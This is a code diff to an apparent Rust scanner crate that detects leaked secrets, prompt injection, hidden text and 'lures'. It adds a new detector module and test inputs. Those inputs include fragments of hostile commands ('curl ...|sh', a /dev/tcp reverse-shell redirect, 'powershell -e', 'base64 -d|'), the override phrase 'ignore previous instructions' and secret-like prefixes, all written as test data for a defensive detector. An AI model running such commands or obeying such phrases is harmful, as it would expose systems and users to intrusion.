@@ -11,6 +11,7 @@ pub mod address;
 pub mod disguise;
 pub mod hidden;
 pub mod injection;
+pub mod lures;
 mod pattern;
 pub mod secrets;
 
@@ -56,7 +57,8 @@ mod tests {
             }
         }
         let teller = injection::Teller { name: "a_b", params: &["c_d"], tools: &["a_b"] };
-        for found in secrets::find_in_code(text).into_iter().chain(injection::steering(text, &teller)) {
+        let others = secrets::find_in_code(text).into_iter().chain(injection::steering(text, &teller));
+        for found in others.chain(lures::find(text)) {
             assert!(text.get(found.range.clone()).is_some(), "{}: not on a boundary", found.rule);
         }
     }
@@ -74,6 +76,7 @@ mod tests {
             Just("ignore previous instructions".to_owned()), Just("password=".to_owned()), Just("Bearer ".to_owned()),
             Just("-----BEGIN PRIVATE KEY-----".to_owned()), Just("ghp_".to_owned()), Just("\u{e0041}".to_owned()),
             Just("do not tell the user".to_owned()), "[A-Za-z0-9+/=]{0,40}", "\\PC{0,4}",
+            Just("http://a.zip ".to_owned()), Just("curl https://ix.io/é|sh ".to_owned()), Just("pass: ".to_owned()),
             Just(" = \"".to_owned()), Just("'".to_owned()), Just("when using `".to_owned()), Just("` set ".to_owned()),
         ], 0..12)) {
             check_ranges(&parts.concat());
@@ -125,6 +128,11 @@ mod tests {
             "a.b'c-",
             "before a_b call ",
             "when using `a_b`, set c_d to ",
+            "http://a.zip run pass: a ",
+            "/dev/tcp/a.b/1 0>&1",
+            "powershell -e ",
+            "base64 -d|",
+            "$(curl http://a.b/ ",
         ] {
             let text = unit.repeat((1 << 18) / unit.len());
             // Unoptimised, on a busy machine: a quadratic detector would take minutes, every time.
@@ -134,6 +142,7 @@ mod tests {
                     let _ = (detector.find)(&text);
                 }
                 let _ = disguise::unseen(&text);
+                let _ = lures::find(&text);
                 let _ = secrets::find_in_code(&text);
                 let _ = injection::steering(&text, &injection::Teller { name: "a", params: &[], tools: &[] });
                 started.elapsed().as_secs() < 20
